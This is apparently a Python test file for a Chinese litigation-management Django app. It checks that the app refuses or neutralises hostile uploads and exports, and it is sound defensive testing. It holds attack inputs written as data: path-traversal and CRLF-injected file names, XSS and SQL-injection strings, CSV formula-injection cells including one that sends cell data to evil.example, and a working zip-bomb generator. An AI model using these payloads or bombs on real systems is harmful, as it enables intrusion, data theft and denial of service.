# ruff: noqa: E501, RUF005
"""Hostile uploads: attachments judged by their content (programs renamed to documents, bare
zips renamed .docx, oversized files, names with traversal, line breaks and quotes), imports of
broken files (a zip-bomb .xlsx refused from its directory alone, a gzip bomb, malformed CSV,
wrong encodings, binary garbage), and exported spreadsheets that never run a formula typed into
a record."""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import os
import struct
import time
import tracemalloc
import zipfile
import zlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from fuyuan.core import importing
from fuyuan.core.models import ImportBatch
from fuyuan.litigation.importers import CASES_FEED
from fuyuan.matters.models import Attachment
from fuyuan.testing import make_matter
from tests.hostile.helpers import assert_not_echoed_raw, body, has_cjk

PDF = b"%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx() -> bytes:
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    return out.getvalue()


# --- attachments ---------------------------------------------------------------------------------
# (id, file name, content, accepted?)
ATTACHMENTS = [
    ("exe-as-pdf", "会议纪要.pdf", EXE + b"\x00" * 512, False),
    ("exe-as-docx", "通知.docx", EXE + b"\x00" * 512, False),
    ("exe-as-xlsx", "台账.xlsx", EXE + b"\x00" * 512, False),
    ("exe-as-png", "照片.png", EXE + b"\x00" * 512, False),
    ("elf-as-pdf", "报告.pdf", ELF + b"\x00" * 512, False),
    ("html-as-pdf", "报告.pdf", b"<html><script>alert(1)</script></html>", False),
    ("svg-script-as-png", "图.png", b'<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>', False),
    ("zip-of-exe-as-docx", "通知.docx", _zip({"setup.exe": EXE}), False),
    ("zip-as-xlsx", "台账.xlsx", _zip({"a.txt": b"x"}), False),
    ("zip-as-ofd", "电子公文.ofd", _zip({"run.bat": b"format c:"}), False),
    ("truncated-zip-as-docx", "通知.docx", b"PK\x03\x04" + b"\x00" * 100, False),
    ("binary-as-txt", "说明.txt", bytes(range(256)) * 4, False),
    ("empty-pdf", "空.pdf", b"", False),
    ("pdf-renamed-exe", "报告.exe", PDF, True),
    ("traversal-name", "../../../../etc/passwd.pdf", PDF, True),
    ("windows-traversal", "..\\..\\windows\\system32\\evil.pdf", PDF, True),
    ("crlf-name", "a\r\nSet-Cookie: pwned=1\r\n.pdf", PDF, True),
    ("quote-name", 'evil";filename="x.exe.pdf', PDF, True),
    ("script-name", "<img src=x onerror=alert(1)>.pdf", PDF, True),
    ("rtl-name", "invoice\u202efdp.exe", PDF, True),
    ("long-name", "长" * 300 + ".pdf", PDF, True),
    ("real-docx", "通知.docx", _docx(), True),
    ("ooxml-renamed-zip-docx", "通知.docx", _zip({"[Content_Types].xml": b"<Types/>",
                                                  "word/document.xml": b"<w/>"}), True),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "accepted"),
    [a[1:] for a in ATTACHMENTS],
    ids=[a[0] for a in ATTACHMENTS],
)
def test_attachment_judged_by_content(world, client_for, name, content, accepted) -> None:
    matter = make_matter(world)
    client = client_for("city_office")
    url = reverse("matters:matter_attachment_add", args=[matter.pk])
    response = client.post(url, {"file": SimpleUploadedFile(name, content)})
    assert response.status_code in (200, 302)
    if not accepted:
        assert response.status_code == 200
        page = body(response)
        assert "is-invalid" in page or "invalid-feedback" in page or "alert-danger" in page
        assert has_cjk(page)
        assert_not_echoed_raw(page, name)
        assert not Attachment.objects.exists()
        return
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    stored = attachment.file.name
    assert ".." not in stored and "\\" not in stored and "\r" not in stored and "\n" not in stored
    assert os.path.realpath(attachment.file.path).startswith(
        os.path.realpath(attachment.file.storage.location)
    )
    # The type and the name's ending follow the content, whatever the name said.
    expected = "docx" if name.endswith(".docx") else "pdf"
    assert attachment.name.endswith("." + expected), attachment.name
    download = client.get(reverse("matters:matter_attachment", args=[matter.pk, attachment.pk]))
    assert download.status_code == 200
    disposition = download["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "\r" not in disposition and "\n" not in disposition
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Type"] in ("application/pdf", importing_docx_type())
    page = body(client.get(reverse("matters:matter_detail", args=[matter.pk])))
    assert_not_echoed_raw(page, name)


def importing_docx_type() -> str:
    return "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def test_an_oversized_attachment_is_refused(world, client_for) -> None:
    from fuyuan.matters.actions import MAX_ATTACHMENT_BYTES

    matter = make_matter(world)
    big = SimpleUploadedFile("大.pdf", PDF + b"\x00" * MAX_ATTACHMENT_BYTES)
    response = client_for("city_office").post(
        reverse("matters:matter_attachment_add", args=[matter.pk]), {"file": big}
    )
    assert response.status_code == 200
    assert "20 MB" in body(response)
    assert not Attachment.objects.exists()


# --- imports -------------------------------------------------------------------------------------
HEADERS = ("案号", "承办法院", "原告", "被告", "案由", "是否涉企", "立案日期", "审理阶段")
ROW = ("（2026）豫17行初3号", "驻马店市中级人民法院", "张玉梅", "驻马店市人力资源和社会保障局",
       "工伤认定", "否", "2026-01-05", "审理中")  # fmt: skip


def _csv(rows, headers=HEADERS, encoding="utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def _deflate_blocks(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


def zip_bomb_xlsx(expanded: int = 400 * 1024 * 1024) -> bytes:
    """A well-formed .xlsx of a few hundred KB whose sheet XML unpacks to `expanded` bytes:
    the same 1 MB of rows, deflated once and repeated (each block independent after a full
    flush), written into a zip by hand so building it takes no time."""
    chunk = b'<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAA</t></is></c></row>' * 16384
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>"
    )
    tail = b"</sheetData></worksheet>"
    n = expanded // len(chunk)
    block = _deflate_blocks(chunk)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    sheet_data = _deflate_blocks(head) + block * n + last.compress(tail) + last.flush()
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    sheet = (sheet_data, crc, len(head) + n * len(chunk) + len(tail))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    small = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
            '.org/package/2006/content-types"><Default Extension="rels" ContentType="application'
            '/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
            f'{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" xmlns:r="{rel}">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
            f'{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
    }
    parts = []
    for name, text in small.items():
        raw = text.encode()
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        parts.append((name, c.compress(raw) + c.flush(), zlib.crc32(raw), len(raw)))
    parts.append(("xl/worksheets/sheet1.xml", *sheet))
    out = io.BytesIO()
    central = []
    for name, data, crc32, size in parts:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc32, len(data),
                              size, len(encoded), 0))  # fmt: skip
        out.write(encoded + data)
        central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc32,
                        len(data), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
        )  # fmt: skip
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts),
                          len(directory), start, 0))  # fmt: skip
    return out.getvalue()


def test_the_zip_bomb_is_a_real_one() -> None:
    """The test file really unpacks to hundreds of MB (read by zipfile, as openpyxl would)."""
    bomb = zip_bomb_xlsx(64 * 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.testzip() is None  # every CRC right
        info = archive.getinfo("xl/worksheets/sheet1.xml")
        assert info.file_size > 60 * 1024 * 1024
        assert info.file_size / info.compress_size > 300


def _upload(client, content: bytes, name: str):  # type: ignore[no-untyped-def]
    return client.post(
        reverse("litigation:import"),
        {"feed": CASES_FEED, "file": SimpleUploadedFile(name, content)},
    )


def _refused(client, response) -> str:  # type: ignore[no-untyped-def]
    assert response.status_code == 302
    assert response["Location"] == reverse("litigation:import")
    page = body(client.get(response["Location"]))
    assert not ImportBatch.objects.exists()
    return page


def test_a_zip_bomb_xlsx_is_refused_quickly_without_unpacking_it(world, client_for) -> None:
    client = client_for("court_staff")
    bomb = zip_bomb_xlsx(400 * 1024 * 1024)
    tracemalloc.start()
    began = time.monotonic()
    try:
        response = _upload(client, bomb, "案件.xlsx")
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.monotonic() - began < 30  # the directory alone is read (seconds under load)
    assert peak < 64 * 1024 * 1024
    page = _refused(client, response)
    assert "展开" in page or "解压" in page or "expands" in page, page[-3000:]


def test_a_zip_bomb_is_refused_by_the_bulk_progress_upload_too(world, client_for) -> None:
    """The progress sheet path loads small workbooks whole: the bomb never gets there."""
    from fuyuan.matters.importers import sheet_for_import

    with pytest.raises(importing.ImportFileError) as refused:
        sheet_for_import(SimpleUploadedFile("进展.xlsx", zip_bomb_xlsx(300 * 1024 * 1024)))
    assert refused.value.code == "import.xlsx_expands"


def test_a_gzip_bomb_without_line_breaks_is_refused(world, client_for) -> None:
    """1 GB of one character without a line break, gzip'd to about a MB: the header line is
    never read whole into memory."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as packed:
        block = b"A" * (1024 * 1024)
        for _ in range(64):
            packed.write(block)
    client = client_for("court_staff")
    tracemalloc.start()
    try:
        response = _upload(client, out.getvalue(), "案件.csv.gz")
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 48 * 1024 * 1024
    page = _refused(client, response)
    assert "CSV" in page


def test_gzip_output_is_bounded(monkeypatch) -> None:
    monkeypatch.setattr(importing, "GZIP_MAX_EXPANDED", 1000)
    data = gzip.compress(_csv([ROW] * 200))
    with pytest.raises(importing.ImportFileError) as refused:
        list(importing.read_table(io.BytesIO(data), "a.csv.gz"))
    assert refused.value.code == "import.gzip_expands"


# (id, file name, content, read?) — read: the preview opens (rows may have issues), else the
# upload page says why in Chinese.
BROKEN = [
    ("utf8", "案件.csv", _csv([ROW]), True),
    ("utf8-bom", "案件.csv", codecs.BOM_UTF8 + _csv([ROW]), True),
    ("gbk", "案件.csv", _csv([ROW], encoding="gbk"), True),
    ("gb18030", "案件.csv", _csv([ROW], encoding="gb18030"), True),
    ("utf16-bom", "案件.csv", _csv([ROW], encoding="utf-16"), True),
    ("utf16le-no-bom", "案件.csv", _csv([ROW], encoding="utf-16-le"), False),
    ("big5", "案件.csv", "案號,承辦法院,原告\r\n甲,乙,丙\r\n".encode("big5"), False),
    ("shift-jis-garbage", "案件.csv", "案件番号,裁判所\r\n１,２\r\n".encode("shift_jis"), False),
    ("binary-garbage", "案件.csv", os.urandom(4096), False),
    ("exe-as-csv", "案件.csv", EXE + os.urandom(2048), False),
    ("exe-as-xlsx", "案件.xlsx", EXE + os.urandom(2048), False),
    ("zip-as-xlsx", "案件.xlsx", _zip({"a.txt": b"x"}), False),
    ("pdf-as-xlsx", "案件.xlsx", PDF, False),
    ("xls-ole", "案件.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024, False),
    ("empty", "案件.csv", b"", False),
    ("blank-lines", "案件.csv", b"\r\n\r\n,,,\r\n", False),
    ("header-only", "案件.csv", _csv([]), True),
    ("unbalanced-quote", "案件.csv", _csv([]) + '"（2026）豫17行初3号,驻马店\r\n'.encode() * 3, True),
    ("too-many-cells", "案件.csv", _csv([ROW + ("多余", "更多", "<script>alert(1)</script>")]), True),
    ("too-few-cells", "案件.csv", _csv([ROW[:2], ROW[:1]]), True),
    ("nul-bytes", "案件.csv", _csv([ROW]).replace("张玉梅".encode(), "张\x00玉梅".encode()), True),
    ("huge-field", "案件.csv", _csv([ROW[:2] + ("甲" * 200_000,) + ROW[3:]]), False),
    ("script-cells", "案件.csv", _csv([tuple('"><img src=x onerror=alert(1)>' for _ in ROW)]), True),
    ("formula-cells", "案件.csv", _csv([ROW[:2] + ("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)") + ROW[5:]]), True),
    ("wrong-headers", "案件.csv", _csv([ROW], headers=("名称", "日期")), False),
    ("sql-in-cells", "案件.csv", _csv([(ROW[0], "' OR 1=1 --", "'; DROP TABLE litigation_admincase; --") + ROW[3:]]), True),
    ("bad-dates", "案件.csv", _csv([ROW[:6] + ("2026-02-30",) + ROW[7:], ROW[:6] + ("9999-99-99",) + ROW[7:]]), True),
    ("bad-case-numbers", "案件.csv", _csv([("（2026）豫17行初0号",) + ROW[1:], ("' OR 1=1",) + ROW[1:], ("（1899）豫17行初3号",) + ROW[1:]]), True),
    ("json-as-csv", "案件.json", b'{"data": [{"\xe6\xa1\x88\xe5\x8f\xb7": [[[[[[[[[[]]]]]]]]]]}]}', False),
    ("deep-json", "案件.json", b"[" * 100_000 + b"]" * 100_000, False),
    ("ndjson-garbage", "案件.ndjson", b'{"a": 1}\n{not json\n', False),
    ("deep-ndjson", "案件.ndjson", b"[" * 100_000 + b"]" * 100_000 + b"\n", False),
    ("ndjson-one-line-bomb", "案件.ndjson.gz", gzip.compress(b'{"a": "' + b"A" * (20 * 1024 * 1024)), False),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "read"), [b[1:] for b in BROKEN], ids=[b[0] for b in BROKEN]
)
def test_a_broken_import_file_is_reported(world, client_for, name, content, read) -> None:
    client = client_for("court_staff")
    response = _upload(client, content, name)
    assert response.status_code == 302
    if response["Location"] == reverse("litigation:import"):
        page = _refused(client, response)
        assert not read, "a readable file was refused"
        assert "alert-danger" in page or "alert" in page
        assert has_cjk(page)
        assert_not_echoed_raw(page, "")
        return
    assert read, "an unreadable file was taken"
    batch = ImportBatch.objects.get()
    preview = client.get(response["Location"])
    assert preview.status_code == 200
    page = body(preview)
    assert_not_echoed_raw(page, '"><img src=x onerror=alert(1)>')
    assert "<script>alert(1)</script>" not in page
    if name.endswith(".csv") and "utf" not in name and batch.ok_rows:
        assert "张玉梅" in page or "驻马店" in page or batch.error_rows == 0


# --- exports never run a formula --------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=[f"formula-{n}" for n in range(len(FORMULAS))])
def test_ledger_export_writes_formulas_as_text(world, client_for, formula) -> None:
    make_matter(world, title=formula)
    response = client_for("city_office").get(reverse("matters:ledger_export"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    typed = formula.strip()  # a title is stored without its outer blanks
    cells = [c for row in sheet.iter_rows() for c in row if c.value == typed]
    assert cells, "the title is in the export as typed"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
    raw = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


def test_campaign_title_with_line_breaks_and_quotes_downloads(world, client_for) -> None:
    from fuyuan.matters.models import Campaign

    client = client_for("city_office")
    page = client.get(reverse("matters:campaign_create")).content.decode()
    from tests.hostile.helpers import fill, read_form

    data = fill(read_form(page, contains="title"))
    data["title"] = '=1+1 "专项"\r\nSet-Cookie: pwned=1'
    created = client.post(reverse("matters:campaign_create"), data)
    if created.status_code != 302:  # refused: nothing else to check
        assert not Campaign.objects.exists()
        return
    campaign = Campaign.objects.get()
    for name in ("matters:campaign_report_xlsx", "matters:campaign_report_docx"):
        response = client.get(reverse(name, args=[campaign.pk]))
        assert response.status_code == 200, name
        disposition = response["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition
        assert disposition.count('"') == 2
